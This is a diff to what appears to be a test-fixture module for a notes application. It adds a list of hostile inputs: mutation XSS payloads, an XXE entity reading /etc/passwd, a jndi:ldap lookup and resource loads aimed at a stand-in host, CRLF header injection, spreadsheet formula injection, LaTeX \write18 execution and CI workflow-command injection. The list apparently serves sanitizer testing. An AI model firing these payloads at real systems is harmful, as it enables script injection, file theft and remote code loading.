@@ -310,7 +310,71 @@ PATHS = (
 )
 """Paths that lead out of the notes folder, or nowhere."""
 
-TEXTS = (*MARKUP, *MARKDOWN, *TEMPLATES, *UNICODE, *ADDRESSES, *PATHS)
+READERS = (
+    # Where readers of HTML disagree about what ends, and where.
+    f"<!--><img src=x onerror={ALERT}>-->",
+    f"<!---><img src=x onerror={ALERT}>",
+    f"<!-- --!><img src=x onerror={ALERT}>",
+    f"<!--<script>--><img src=x onerror={ALERT}></script>",
+    f"<script>x='<!--<script>'</script><img src=x onerror={ALERT}>",
+    f"</p/><img src=x onerror={ALERT}>",
+    f"<//><img src=x onerror={ALERT}>",
+    f"<?><img src=x onerror={ALERT}>",
+    f"<!><img src=x onerror={ALERT}>",
+    f"<svg><title><style></title><img src=x onerror={ALERT}>",
+    f"<svg><desc><p><style><!--</style><img title='--><img src=x onerror={ALERT}>'>",
+    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={ALERT}></style></annotation-xml></math>",
+    f"<math><mi><table><mglyph><style><!--</style><img title='--></mglyph><img src=x onerror={ALERT}>'>",
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror={ALERT}>'>",
+    f"<select><template><img src=x onerror={ALERT}></template></select>",
+    f"<template shadowrootmode=open><img src=x onerror={ALERT}></template>",
+    f"<table><caption><svg><foreignObject><img src=x onerror={ALERT}></table>",
+    f"<plaintext><img src=x onerror={ALERT}>",
+    f"<noembed><p title='</noembed><img src=x onerror={ALERT}>'>",
+    f"<noframes><p title='</noframes><img src=x onerror={ALERT}>'>",
+    f"<frameset onload={ALERT}><frame src=javascript:{ALERT}></frameset>",
+    f"<div\x0conclick={ALERT}>x</div>",
+    f"<img alt=`src=x onerror={ALERT}`>",
+    f"<img alt='\"' title=\"'\" src=x onerror={ALERT}>",
+    f"<svg><a><animate attributeName=href values=javascript:{ALERT} /><text y=9>x</text></a></svg>",
+    f"<svg><set attributeName=onmouseover to={ALERT}>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{ALERT}</script></svg>#x'>",
+    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={ALERT}>x</div>",
+    f"<dialog open oncancel={ALERT} onclose={ALERT}>x</dialog>",
+    f"<div contenteditable onbeforeinput={ALERT}>x</div>",
+    "<a ping=https://elsewhere.example/ href=#>x</a>",
+    "<img srcset='x.png 1x, https://elsewhere.example/y.png 2x'>",
+    "<svg><image href=https://elsewhere.example/x.png /></svg>",
+    "<style>@font-face{font-family:x;src:url(https://elsewhere.example/x)}</style>",
+    "<p style='background:\\75rl(https://elsewhere.example/x)'>x</p>",
+    "<form id=document name=location><input name=body><input id=__search></form>",
+    # Where other programs make something of a text.
+    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
+    "\x1b]8;;https://elsewhere.example/\x07link\x1b]8;;\x07",
+    "a\r\nSet-Cookie: x=1\r\n\r\n<p>x",
+    "${jndi:ldap://elsewhere.example/x}",
+    "a; =1+1; @SUM(1)",
+    "\ufeff=HYPERLINK('https://elsewhere.example/')",
+    "\u200b+1\u2060-1",
+    "\\write18{id}\\input{/etc/passwd}\\catcode`\\@=11",
+    "$\\def\\x{\\x}\\x$ $\\href{https://elsewhere.example/}{x}$",
+    "}}, note = {x}, @string{a = {b}} @comment{",
+    "{" * 200 + "}" * 200,
+    "ER  - \r\nTY  - JOUR",
+    "&anchor *anchor !tag |",
+    "--- # x\n... \n%YAML 1.1",
+    "Null",
+    "12:30:45",
+    "2024-01-01",
+    "(a+)+$ [[:alpha:]] (?R)",
+    "*) venue:x OR (author:y",
+    'keyword:"a\\"b" -',
+    "::error file=x,line=1::injected",
+    "%0A::warning::injected",
+)
+"""Where readers of HTML disagree, and what programs besides browsers make something of."""
+
+TEXTS = (*MARKUP, *MARKDOWN, *TEMPLATES, *UNICODE, *ADDRESSES, *PATHS, *READERS)
 """Everything, for fields that hold any text."""
 
 
